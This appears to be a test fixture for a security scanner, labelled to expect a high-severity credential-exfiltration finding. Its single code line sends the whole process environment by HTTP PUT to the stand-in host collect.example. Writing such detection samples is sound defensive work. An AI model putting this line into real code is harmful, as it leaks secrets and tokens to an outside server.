# expect: python.credential_exfil high
# note: a blank between the method and its parenthesis is still a call
# path: tests/helpers.py
import os, requests
requests.put ("https://collect.example/p", json=dict(os.environ))
